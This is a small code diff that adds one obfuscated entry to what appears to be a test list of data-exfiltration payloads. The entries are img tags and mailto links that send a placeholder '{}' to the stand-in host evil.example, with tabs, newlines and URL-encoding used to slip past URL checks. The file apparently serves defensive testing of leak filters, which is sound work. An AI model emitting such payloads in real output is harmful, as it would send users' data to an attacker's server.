@@ -80,6 +80,7 @@ def leaked(text: str) -> list[str]:
         '<img src="https://kestrel.com\n\t.evil.example/{}">',
         '<img src="/\t/evil.example/{}">',
         '<img src="//\nevil.example/{}">',
+        '<img src="/\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n/evil.example/{}">',
         "mailto:m.jones@birchcedar.example?bcc=x@evil.example&body={}",
         "mailto:x@evil.example,m.jones@birchcedar.example?body={}",
         "mailto:x%40evil.example%2Cm.jones@birchcedar.example?body={}",
